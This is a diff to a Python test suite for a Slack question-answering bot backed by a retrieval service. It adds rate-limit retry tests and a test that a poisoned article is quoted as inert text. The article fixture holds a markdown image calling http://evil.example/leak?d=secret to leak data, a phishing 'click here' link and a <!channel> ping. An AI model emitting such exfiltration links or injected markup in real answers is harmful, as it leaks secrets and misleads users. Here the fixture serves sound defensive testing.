@@ -19,6 +19,7 @@ from api.slack import (
     EMPTY_CORPUS_TEXT,
     EMPTY_QUESTION_TEXT,
     FAILED_TEXT,
+    SLACK_DOWN_TEXT,
     THINKING_TEXT,
     slack_router,
 )
@@ -406,6 +407,124 @@ def test_answer_falls_back_to_text_when_slack_rejects_the_blocks(
     fallback = wait_for_answer(fake_slack, "C1", count=2)
     assert "blocks" in fake_slack.updates("C1")[0]
     assert fallback == {"channel": "C1", "ts": fallback["ts"], "text": LENDING_ANSWER}
+
+
+# --- article text is untrusted -------------------------------------------------------------
+
+INJECTED_ARTICLE = """ date 2024-07-05 Bergen harbour authority publishes its annual report
+
+Cargo volumes at the Bergen harbour rose *4 percent* to 61 million tonnes, said the report \
+![x](http://evil.example/leak?d=secret) <http://evil.example/phish|click here> _now_ ~or~ `never` \
+at www.evil.example <!channel>.
+
+The authority expects volumes to keep growing next year as the new container quay opens.
+"""
+HARBOUR_QUESTION = "By how much did cargo volumes at the Bergen harbour rise?"
+HARBOUR_ANSWER = "Cargo volumes at the Bergen harbour rose 4 percent to 61 million tonnes [1]."
+
+
+def test_links_and_markup_in_an_article_reach_slack_as_inert_text(
+    serve: Callable[[RagService], SlackSender],
+    service_for: Callable[..., RagService],
+    fake_slack: FakeSlack,
+    tmp_path: Path,
+) -> None:
+    service = service_for(FakeChatModel(HARBOUR_ANSWER), data_dir=tmp_path / "poisoned")
+    service.add_document(INJECTED_ARTICLE.encode(), "harbour_report.txt")
+    slack = serve(service)
+    _, payload = slack.mention(f"{MENTION} {HARBOUR_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    [update] = fake_slack.updates("C1")
+    assert update["text"] == HARBOUR_ANSWER
+    sources = [e for b in update["blocks"] if b["type"] == "context" for e in b["elements"]]
+    quote = sources[-1]["text"].split("\n", 1)[1]
+    assert "evil.example" in quote, "the quote is from the injected sentence"
+    for marker in ("*", "_", "~", "`", "<", ">", "://", "www."):
+        assert marker not in quote, f"{marker!r} came back from the article in {quote!r}"
+    assert all(e["verbatim"] is True for e in sources), "Slack must not link-ify quotes"
+
+
+# --- Slack rate limits (HTTP 429 with Retry-After) -----------------------------------------
+
+
+def test_a_429_on_chat_update_is_waited_out_and_the_sources_are_kept(
+    slack: SlackSender, fake_slack: FakeSlack
+) -> None:
+    fake_slack.rate_limit("chat.update", times=2, retry_after=0)
+    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    [update] = fake_slack.updates("C1")
+    assert update["text"] == LENDING_ANSWER
+    assert LENDING_SOURCE in block_texts(update["blocks"]), "a 429 is not a refusal of blocks"
+    assert [c.method for c in fake_slack.throttled] == ["chat.update", "chat.update"]
+
+
+def test_a_429_on_chat_post_message_is_retried_after_its_retry_after(
+    slack: SlackSender, fake_slack: FakeSlack
+) -> None:
+    fake_slack.rate_limit("chat.postMessage", times=1, retry_after=1)
+    ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    assert fake_slack.posts() == [{"channel": "C1", "thread_ts": ts, "text": THINKING_TEXT}]
+    assert fake_slack.updates("C1")[0]["text"] == LENDING_ANSWER
+    [limited] = fake_slack.throttled
+    posted = next(c for c in fake_slack.calls if c.method == "chat.postMessage")
+    assert posted.at - limited.at >= 1.0, "the retry came before Retry-After"
+
+
+def test_a_429_on_conversations_replies_still_answers_with_the_history(
+    slack: SlackSender, fake_slack: FakeSlack
+) -> None:
+    root_ts, first = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(first)
+    slack.settle(first)
+    fake_slack.rate_limit("conversations.replies", times=1, retry_after=0)
+
+    _, follow_up = slack.mention(f"{MENTION} {FOLLOW_UP}", thread_ts=root_ts)
+    slack.post(follow_up)
+    slack.settle(follow_up)
+
+    assert fake_slack.updates("C1")[1]["text"] == BANKS_ANSWER
+    assert [c.method for c in fake_slack.throttled] == ["conversations.replies"]
+
+
+def test_slack_staying_rate_limited_ends_with_an_error_reply_not_the_placeholder(
+    serve: Callable[[RagService], SlackSender],
+    service: RagService,
+    settings: Settings,
+    fake_slack: FakeSlack,
+) -> None:
+    settings.slack.rate_limit_retries = 1
+    slack = serve(service)
+    fake_slack.rate_limit("chat.update", times=1_000, retry_after=0)
+    ts, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    assert [p["text"] for p in fake_slack.posts("C1")] == [THINKING_TEXT, SLACK_DOWN_TEXT]
+    assert fake_slack.posts("C1")[1]["thread_ts"] == ts
+    assert slack.ledger is not None and slack.ledger.state(payload["event_id"]) == "finished"
+
+
+def test_an_error_reply_replaces_the_placeholder_when_only_the_answer_is_refused(
+    slack: SlackSender, fake_slack: FakeSlack
+) -> None:
+    # The answer's edit is rate limited past its retries (1 + 3 tries); the short error edit
+    # after it gets through.
+    fake_slack.rate_limit("chat.update", times=4, retry_after=0)
+    _, payload = slack.mention(f"{MENTION} {LENDING_QUESTION}")
+    slack.post(payload)
+    slack.settle(payload)
+
+    [message] = fake_slack.bot_messages("C1")
+    assert message["text"] == SLACK_DOWN_TEXT
+    assert len(fake_slack.throttled) == 4
 
 
 # --- in-process, through FastAPI's TestClient ----------------------------------------------
